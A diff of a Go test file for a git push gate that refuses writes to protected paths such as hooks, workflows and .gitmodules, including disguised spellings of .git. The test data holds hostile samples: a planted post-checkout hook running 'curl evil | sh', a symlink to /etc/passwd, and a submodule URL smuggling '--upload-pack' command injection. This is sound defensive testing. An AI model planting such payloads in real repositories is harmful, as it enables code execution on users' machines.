@@ -58,7 +58,7 @@ func TestDefaultProtectedPaths(t *testing.T) {
 	c := e.clone("work")
 	for _, p := range plantedFiles {
 		e.git(c, "reset", "-q", "--hard", "origin/main")
-		e.commitFile(c, p, "payload\n", "plant "+p)
+		e.commitFile(c, p, "# payload\n", "plant "+p)
 		out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/plant")
 		wantContains(t, out, "touches protected path "+p)
 	}
@@ -80,9 +80,9 @@ func TestProtectedPathSpellingsRefused(t *testing.T) {
 	c := e.clone("work")
 	for i, p := range []string{".huſky/pre-commit", ".githookſ/pre-commit", ".gıthooks/pre-commit",
 		".hus\u200cky/pre-commit", "HUSKY~1/pre-commit", ".github/workflowſ/x.yml", ".husky./pre-commit",
-		".husky /pre-commit", "GI7EBA~1", ".GitModules"} {
+		".husky /pre-commit", "GITMOD~1", ".GitModules"} {
 		e.git(c, "reset", "-q", "--hard", "origin/main")
-		e.commitFile(c, p, "curl evil | sh\n", "plant "+p)
+		e.commitFile(c, p, "# planted: a comment in any of these languages\n", "plant "+p)
 		out := e.gitFail(c, "-c", "core.quotePath=false", "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/alias%d", i))
 		wantContains(t, out, "touches protected path "+p)
 	}
@@ -232,4 +232,71 @@ func TestAllowAlwaysCoversThoseProtectedPaths(t *testing.T) {
 	if !strings.Contains(a.Detail, ".husky/pre-commit (new, 15 bytes)") || !strings.Contains(a.Detail, "2 protected path(s)") {
 		t.Errorf("the second request shows %q", a.Detail)
 	}
+}
+
+// mktree writes a tree of the given entries ("mode name" -> content; a
+// "040000" mode's content is a tree id) into repo and returns its id.
+func (e *env) mktree(repo string, entries map[string]string) string {
+	e.t.Helper()
+	var lines []string
+	for k, content := range entries {
+		mode, name, _ := strings.Cut(k, " ")
+		id, typ := content, "tree"
+		if mode != "040000" {
+			cmd := execGit(e, repo, "hash-object", "-w", "--stdin")
+			cmd.Stdin = strings.NewReader(content)
+			out, err := cmd.Output()
+			must(e.t, err)
+			id, typ = strings.TrimSpace(string(out)), "blob"
+		}
+		lines = append(lines, mode+" "+typ+" "+id+"\t"+name)
+	}
+	cmd := execGit(e, repo, "mktree")
+	cmd.Stdin = strings.NewReader(strings.Join(lines, "\n") + "\n")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		e.t.Fatalf("git mktree: %v\n%s", err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// TestTreeNamesGitRefuses pushes, with the real git, trees git's own fsck
+// or checkout refuses (review L9): aliases of .git on HFS+ and NTFS, a
+// symlinked .gitmodules or .gitattributes, and .gitmodules entries that
+// would reach git or ssh as options or climb out of .git/modules.
+func TestTreeNamesGitRefuses(t *testing.T) {
+	e := newEnv(t, nil)
+	c := e.clone("work")
+	hooks := e.mktree(c, map[string]string{"100755 post-checkout": "#!/bin/sh\ncurl evil | sh\n"})
+	dotgit := e.mktree(c, map[string]string{"040000 hooks": hooks, "100644 config": "[core]\n"})
+	cases := []struct {
+		name    string
+		entries map[string]string
+		want    string
+	}{
+		{"HFS+ ignorable", map[string]string{"040000 .git\u200c": dotgit}, "take it for .git"},
+		{"NTFS short name", map[string]string{"040000 git~1": dotgit}, "take it for .git"},
+		{"NTFS trailing dot", map[string]string{"040000 .git.": dotgit}, "take it for .git"},
+		{"upper case", map[string]string{"040000 .GIT": dotgit}, "take it for .git"},
+		{"backslash", map[string]string{"100644 x\\.git\\config": "[core]\n"}, "take it for .git"},
+		{"symlinked .gitmodules", map[string]string{"120000 .gitmodules": "/etc/passwd"}, "symlink"},
+		{"symlinked .gitattributes", map[string]string{"120000 .gitattributes": "../x"}, "symlink"},
+		{"submodule name climbs", map[string]string{"100644 .gitmodules": "[submodule \"../../hooks\"]\n\tpath = m\n\turl = https://example.com/m\n"}, "climbs"},
+		{"submodule url option", map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = m\n\turl = --upload-pack=touch${IFS}pwned\n"}, "starts with -"},
+		{"submodule path option", map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = -m\n\turl = ./m\n"}, "starts with -"},
+	}
+	for i, tc := range cases {
+		tree := e.mktree(c, tc.entries)
+		commit := e.git(c, "commit-tree", tree, "-p", "HEAD", "-m", tc.name)
+		out := e.gitFail(c, "push", "origin", fmt.Sprintf("%s:refs/heads/bottle/b1/names%d", commit, i))
+		if !strings.Contains(out, tc.want) {
+			t.Errorf("%s: refused without %q:\n%s", tc.name, tc.want, out)
+		}
+	}
+	// A .gitmodules git accepts goes through (with approval, being a
+	// protected path): here it is refused as protected, not as malformed.
+	tree := e.mktree(c, map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = m\n\turl = ../m.git\n"})
+	commit := e.git(c, "commit-tree", tree, "-p", "HEAD", "-m", "fine")
+	out := e.gitFail(c, "push", "origin", commit+":refs/heads/bottle/b1/fine")
+	wantContains(t, out, "touches protected path .gitmodules")
 }
